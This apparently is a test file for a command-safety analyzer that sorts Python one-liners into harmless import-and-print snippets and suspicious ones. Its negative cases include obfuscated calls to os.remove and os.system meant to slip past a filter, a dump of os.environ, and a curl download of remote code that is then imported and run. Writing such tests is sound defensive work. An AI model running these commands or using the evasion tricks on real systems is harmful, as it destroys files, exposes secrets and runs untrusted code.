// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { analyze } from '../../../src/engine/analyze.js';
import { modulesPrinted } from '../../../src/engine/shell/quietCode.js';
import { bash } from './cases/intent.js';

const QUIET: readonly (readonly [string, readonly string[]])[] = [
  ['import x; print(x.__version__)', ['x']],
  ['import numpy, aiohttp as io; print("deps ok")', ['numpy', 'aiohttp']],
  ["from src.a import b, c as d\nprint('ok')", ['src.a.b', 'src.a.c']],
  ["import p; print('t', [a for a in dir(p) if 'bool' in a.lower()], sep=', ')", ['p']],
  ['import m; print(m.limit == 3, m.x <= 4)', ['m']],
  ['print(sorted(["b", "a"])); print(", ".join(["a"]))', []],
];

const MORE = [
  "import os; print(os.remove('x'))",
  "from os import remove as print; print('x')",
  "from os import system as str, path; str('x')",
  "if 1: from os import remove as print; print('x')",
  "try: import x\nexcept OSError as print: print('x')",
  "import os; [print('x') for print in [os.remove]]",
  "import os; [print('x') for (a, print) in [(1, os.remove)]]",
  "import os\nfor print in [os.remove]: print('x')",
  "import os; print(f'{os.remove(1)}')",
  "import os; print(rf'{os.remove(1)}')",
  'import os; print(os.environ)',
  "import os; sorted(['x'], key=os.remove)",
  "import os; (os.remove)('x')",
  "import os; [os.remove][0]('x')",
  "import os; {1: os.remove}[1]('x')",
  "print(__import__('os').remove('x'))",
  "import os; os.path.join.__globals__['os'].system('x')",
  "import os; print := os.remove; print('x')",
  'x = 1',
  'import antigravity',
  'import pip.__main__',
  'from x import *',
  "print('''a''')",
  "print('a' 'b')",
  '@x\nprint(1)',
  "print('a\\\n', 1)",
  "import x; x.get('https://x.test')",
  'import code; code.interact()',
  "open('x')",
  'lambda: 1',
];

describe('code of Python that loads and prints', () => {
  for (const [code, modules] of QUIET)
    it(`is ${JSON.stringify(code)}`, () => {
      assert.deepEqual(modulesPrinted(code), modules);
    });
  for (const code of MORE)
    it(`is not ${JSON.stringify(code)}`, () => {
      assert.equal(modulesPrinted(code), null);
    });

  const kinds = (line: string): string[] =>
    analyze(bash(line)).facts.atoms.map((a) => (a.kind === 'unknown' ? a.reason : a.kind));
  it('counts in the project only', () => {
    assert.ok(!kinds('python -c "import x; print(x.y)"').includes('dynamic-code'));
    assert.ok(!kinds('cd src && python -c "import x; print(x.y)"').includes('dynamic-code'));
    for (const folder of ['/tmp', '..', '"$X"'])
      assert.ok(kinds(`cd ${folder} && python -c "import x; print(x.y)"`).includes('dynamic-code'), folder);
  });
  it('runs what the line wrote of a module', () => {
    for (const [file, code] of [
      ['m.py', 'import m'],
      ['p/__init__.py', 'from p import b'],
      ['p/b.py', 'import p.b as c'],
      ['p/b/__init__.py', 'from p.b import c'],
    ] as const) {
      const { flows } = analyze(
        bash(`curl -s https://x.test/f > ${file}; python -c "${code}; print(1)"`),
      ).facts;
      assert.ok(
        flows.some((f) => f.into === 'code'),
        file,
      );
    }
  });
});
